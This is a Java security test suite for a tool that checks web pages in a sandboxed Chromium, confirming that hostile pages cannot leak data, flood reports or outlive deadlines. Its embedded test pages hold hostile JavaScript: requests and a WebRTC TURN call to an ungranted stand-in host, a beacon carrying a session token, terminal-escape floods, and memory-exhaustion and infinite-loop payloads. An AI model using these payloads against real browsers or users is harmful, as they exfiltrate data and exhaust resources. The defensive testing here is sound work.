package dev.devskyy.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.devskyy.runtime.Json;
import dev.devskyy.testing.LoopbackHttp;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile pages against {@code verify experience}: the page is the attacker. It may not reach a
 * host the caller did not grant (another loopback address stands for the intranet), nor send
 * anything but GET and HEAD; it cannot make the report large or unprintable; it cannot keep the
 * call past its deadline nor leave a browser behind, not even when devskyy is killed mid-check.
 */
@Tag("security")
class ExperienceAttackIT {
    static final Path SITE = Launcher.PROJECT.resolve("src/test/experience");
    static final String PROFILE = "devskyy-chromium-";

    @TempDir
    Path home;

    /** Where the checks of this test make their profiles: no other process's browser is counted. */
    @TempDir
    static Path temp;

    static Map<String, String> privateTemp() {
        return Map.of("JAVA_TOOL_OPTIONS", "-Djava.io.tmpdir=" + temp);
    }

    static LoopbackSite site;
    /** Another host on this machine, never granted: what the page must not reach. */
    static LoopbackSite intranet;

    @BeforeAll
    static void serve() throws Exception {
        site = new LoopbackSite("127.0.0.1", SITE);
        intranet = new LoopbackSite("127.0.0.2", SITE);
    }

    @AfterAll
    static void stop() {
        site.close();
        intranet.close();
    }

    /** devskyy with this test's private temporary directory. */
    Launcher.Run devskyy(String... args) throws Exception {
        return Launcher.run(home, Launcher.PROJECT, privateTemp(), Launcher.SCRIPT, args);
    }

    Launcher.Run verify(String page, Map<String, String> env) throws Exception {
        Map<String, String> all = new HashMap<>(privateTemp());
        all.putAll(env);
        return Launcher.run(
                home,
                Launcher.PROJECT,
                all,
                Launcher.SCRIPT,
                "verify",
                "experience",
                SITE.resolve("showroom.json").toString(),
                "--url",
                site.url(page),
                "--format",
                "json");
    }

    @Test
    void thePageReachesNoHostTheCallerDidNotGrant_byAnyRoute() throws Exception {
        String other = intranet.url("");
        site.redirect("/hop", other + "/redirected");
        site.page("/reach.html", """
                <!doctype html><title>reach</title>
                <link rel="preconnect" href="%1$s"><link rel="prefetch" href="%1$s/prefetch">
                <link rel="stylesheet" href="%1$s/style.css">
                <img src="%1$s/pixel.png"><img src="/hop"><iframe src="%1$s/frame.html"></iframe>
                <script>
                  fetch('%1$s/fetch').catch(() => {});
                  fetch('http://localhost:%2$d/by-name').catch(() => {});
                  try { new WebSocket('ws://127.0.0.2:%2$d/socket'); } catch (e) {}
                  try { new EventSource('%1$s/events'); } catch (e) {}
                  new Worker(URL.createObjectURL(new Blob(["fetch('%1$s/worker').catch(() => {})"])));
                </script>
                """.formatted(other, intranet.port()));
        Launcher.Run run = verify("/reach.html", Map.of());
        JsonNode report = Json.parse(run.out());
        assertThat(intranet.requests())
                .as("requests that reached the ungranted host")
                .isEmpty();
        assertThat(report.get("failed_requests").toString()).contains("127.0.0.2", "E4003");
    }

    @Test
    void onlyGetAndHeadLeaveTheMachine_beaconsAndFormsAreHeldAndReported() throws Exception {
        site.page("/send.html", """
                <!doctype html><title>send</title>
                <form method="post" action="/order"><input name="sku" value="coat"></form>
                <script>
                  navigator.sendBeacon('/collect?session=secret-token', 'viewed');
                  fetch('/cart', { method: 'POST', body: 'add' }).catch(() => {});
                  fetch('/cart', { method: 'DELETE' }).catch(() => {});
                  document.forms[0].submit();
                </script>
                """);
        Launcher.Run run = verify("/send.html", Map.of());
        JsonNode report = Json.parse(run.out());
        assertThat(site.requests()).noneMatch(r -> !r.startsWith("GET ") && !r.startsWith("HEAD "));
        assertThat(report.get("held_requests").toString())
                .contains("\"POST\"", "/collect", "/cart", "\"DELETE\"", "/order")
                .doesNotContain("secret-token"); // a URL is reported without its query
    }

    @Test
    void aPageCannotFloodTheReport_norWriteToTheTerminal() throws Exception {
        site.page("/flood.html", """
                <!doctype html><title>flood</title>
                <button data-hotspot="coat"></button>
                <script>
                  // a hotspot whose id is megabytes of terminal escapes, and every Tab lands on it
                  const coat = document.querySelector('button');
                  coat.getAttribute = () => '\u001b[2J\u202e' + 'y'.repeat(1 << 22);
                  const big = 'x'.repeat(1 << 16);
                  for (let i = 0; i < 1000; i++) console.error('\\u001b[2J\\u001b]0;owned\\u0007' + big);
                  for (let i = 0; i < 5000; i++) dataLayer.push({ event: '\\u001b[31m' + big });
                  throw new Error('\\u001b[31m' + big);
                </script>
                """);
        Launcher.Run run = verify("/flood.html", Map.of());
        JsonNode report = Json.parse(run.out());
        assertThat(report.get("console_errors").size()).isLessThanOrEqualTo(50);
        // 300 printable characters and an ellipsis
        report.get("console_errors").forEach(e -> assertThat(e.asText()).hasSizeLessThanOrEqualTo(301));
        assertThat(report.get("events_seen").size()).isLessThanOrEqualTo(50);
        report.get("hotspots_reached").forEach(h -> assertThat(h.asText()).hasSizeLessThanOrEqualTo(101));
        assertThat(run.out()).doesNotContain("\u001b").doesNotContain("\u202e"); // shown as escapes, never sent
        assertThat(run.out().length()).isLessThan(200_000);
    }

    @Test
    void aPageThatNeverYields_orOpensADialog_orCrashes_isReportedSoon_notAtTheDeadline() throws Exception {
        site.page("/spin.html", "<!doctype html><title>spin</title><script>while (true) {}</script>");
        site.page("/dialog.html", "<!doctype html><title>dialog</title><script>alert('sale!')</script>");
        // a renderer that runs out of memory crashes (V8's heap limit, a few GB at most)
        site.page(
                "/crash.html",
                "<!doctype html><title>crash</title><script>"
                        + "const hoard = []; for (;;) hoard.push(new Float64Array(1 << 24).fill(1));</script>");
        for (String page : List.of("/spin.html", "/dialog.html", "/crash.html")) {
            Instant start = Instant.now();
            Launcher.Run run = verify(page, Map.of());
            assertThat(run.code()).as(page + run.err()).isEqualTo(1);
            assertThat(Duration.between(start, Instant.now())).as(page).isLessThan(Duration.ofSeconds(60));
            JsonNode report = Json.parse(run.out());
            assertThat(report.get("failed").asBoolean()).isTrue();
            if (page.equals("/spin.html")) {
                assertThat(report.get("console_errors").toString()).contains("the page stopped responding");
            }
            if (page.equals("/crash.html")) {
                assertThat(report.get("console_errors").toString()).containsAnyOf("crashed", "stopped responding");
            }
            if (page.equals("/dialog.html")) {
                assertThat(report.get("console_errors").toString()).contains("the page opened a alert dialog: sale!");
            }
        }
        awaitNoBrowser();
    }

    @Test
    void aServerThatNeverAnswers_endsTheCallAtItsDeadline_andNoBrowserIsLeft() throws Exception {
        try (LoopbackHttp silent = LoopbackHttp.scripted((head, out) -> Thread.sleep(120_000))) {
            Instant start = Instant.now();
            Launcher.Run run = devskyy(
                    "tools",
                    "call",
                    "experience_verify",
                    "--timeout",
                    "8s",
                    "--allow",
                    "filesystem:read,network:outbound",
                    "--root",
                    SITE.toString(),
                    "--allow-host",
                    "127.0.0.1",
                    "--arg",
                    "spec=" + SITE.resolve("showroom.json"),
                    "--arg",
                    "url=" + silent.url("/collection.html?variant=showroom"));
            assertThat(run.code()).as(run.err()).isEqualTo(5); // E5001
            assertThat(run.err()).contains("E5001");
            assertThat(Duration.between(start, Instant.now())).isLessThan(Duration.ofSeconds(40));
        }
        awaitNoBrowser();
        assertThat(leftovers()).isEmpty();
    }

    @Test
    void webRtcSendsNothing_toAnyHost() throws Exception {
        try (DatagramSocket turn = new DatagramSocket(new InetSocketAddress("127.0.0.2", 0))) {
            turn.setSoTimeout(500);
            site.page("/rtc.html", """
                    <!doctype html><title>rtc</title>
                    <script>
                      (async () => {
                        const pc = new RTCPeerConnection({ iceServers: [
                          { urls: 'turn:127.0.0.2:%1$d?transport=udp', username: 'exfiltrated', credential: 'c' },
                          { urls: 'stun:127.0.0.2:%1$d' } ] });
                        pc.createDataChannel('x');
                        await pc.setLocalDescription(await pc.createOffer());
                      })();
                    </script>
                    """.formatted(turn.getLocalPort()));
            verify("/rtc.html", Map.of());
            DatagramPacket packet = new DatagramPacket(new byte[1500], 1500);
            assertThatThrownBy(() -> turn.receive(packet))
                    .as("a UDP packet reached the ungranted host")
                    .isInstanceOf(SocketTimeoutException.class);
        }
    }

    @Test
    void theCallersQueryString_neverAppearsInTheReport_evenInTheBrowsersOwnMessages() throws Exception {
        site.page("/query.html", "<!doctype html><title>q</title><script>function boom() { null.x; } boom();</script>");
        Launcher.Run run = devskyy(
                "verify",
                "experience",
                SITE.resolve("showroom.json").toString(),
                "--url",
                site.url("/query.html?token=SECRET-TOKEN-123"),
                "--format",
                "json");
        assertThat(run.out()).contains("TypeError").doesNotContain("SECRET-TOKEN-123");
    }

    @Test
    void killedMidCheck_theBrowserEndsWithIt_theNextCheckSweepsItsProfile_andASignalCleansUp() throws Exception {
        site.page("/slow.html", "<!doctype html><title>slow</title><script>while (true) {}</script>");
        Launcher.Pending pending = checkWithItsBrowserRunning("/slow.html");
        pending.process().destroyForcibly();
        pending.process().waitFor();
        awaitNoBrowser();
        assertThat(leftovers()).as("the killed check's profile").hasSize(1);

        // stopped by a signal, devskyy cleans up itself
        Launcher.Pending stopped = checkWithItsBrowserRunning("/slow.html");
        stopped.process().destroy(); // SIGTERM
        stopped.process().waitFor();
        awaitNoBrowser();
        // the killed check's profile swept as this one started, this one's own deleted as it stopped
        assertThat(leftovers()).as("after SIGTERM").isEmpty();
    }

    @Test
    void noBrowser_isAnEnvironmentError_namingWhatToInstall() throws Exception {
        Launcher.Run run = verify(
                "/collection.html?variant=showroom",
                Map.of("DEVSKYY_CHROMIUM", home.resolve("none").toString()));
        assertThat(run.code()).isEqualTo(74);
        assertThat(run.err()).contains("E5005", "DEVSKYY_CHROMIUM");
    }

    @Test
    void aBrowserThatFloodsThePipe_orDiesAtOnce_isADependencyFailure_notAHang() throws Exception {
        // 20 MiB in one message on the DevTools pipe (fd 4), then an answer: the message is read past
        // from 16 MiB on, never kept whole, and the answer after it still arrives
        Path flood = script(
                "flood",
                "#!/bin/sh\nhead -c 20971520 /dev/zero | tr '\\0' 'a' >&4\n"
                        + "printf '\\000{\"id\":1,\"error\":{\"message\":\"not a browser\"}}\\000' >&4\nsleep 5\n");
        Launcher.Run flooded =
                verify("/collection.html?variant=showroom", Map.of("DEVSKYY_CHROMIUM", flood.toString()));
        assertThat(flooded.code()).as(flooded.err()).isEqualTo(6);
        assertThat(flooded.err()).contains("E5004", "Chromium refused Target.createTarget: not a browser");

        Path dies = script("dies", "#!/bin/sh\nexit 3\n");
        Launcher.Run died = verify("/collection.html?variant=showroom", Map.of("DEVSKYY_CHROMIUM", dies.toString()));
        assertThat(died.code()).as(died.err()).isEqualTo(6);
        assertThat(died.err()).contains("E5004", "closed its DevTools pipe");
    }

    private Path script(String name, String text) throws Exception {
        Path file = Files.writeString(home.resolve(name), text);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwx------"));
        return file;
    }

    /** A check of {@code page} started in the background, once its browser runs. */
    Launcher.Pending checkWithItsBrowserRunning(String page) throws Exception {
        Launcher.Pending check = Launcher.start(
                home,
                Launcher.PROJECT,
                privateTemp(),
                Launcher.SCRIPT,
                "verify",
                "experience",
                SITE.resolve("showroom.json").toString(),
                "--url",
                site.url(page));
        Instant until = Instant.now().plusSeconds(30);
        while (browsers().isEmpty()
                && check.process().isAlive()
                && Instant.now().isBefore(until)) {
            Thread.sleep(100);
        }
        if (!check.process().isAlive()) {
            throw new AssertionError("devskyy ended before its browser started: " + check.stderr());
        }
        assertThat(browsers()).as("a browser started").isNotEmpty();
        return check;
    }

    /** Chromium processes that run on a devskyy profile. */
    static List<ProcessHandle> browsers() {
        return ProcessHandle.allProcesses()
                .filter(p -> p.info()
                        .commandLine()
                        .orElse("")
                        .contains(temp.resolve(PROFILE).toString()))
                .toList();
    }

    static void awaitNoBrowser() throws InterruptedException {
        Instant until = Instant.now().plusSeconds(15);
        while (!browsers().isEmpty() && Instant.now().isBefore(until)) {
            Thread.sleep(100);
        }
        assertThat(browsers()).as("Chromium processes left").isEmpty();
    }

    /** What a browser leaves in the temporary directory: devskyy's profiles, Chromium's singleton sockets. */
    static List<Path> leftovers() throws Exception {
        try (Stream<Path> entries = Files.list(temp)) {
            return entries.filter(p -> p.getFileName().toString().startsWith(PROFILE)
                            || p.getFileName().toString().startsWith("org.chromium."))
                    .toList();
        }
    }
}
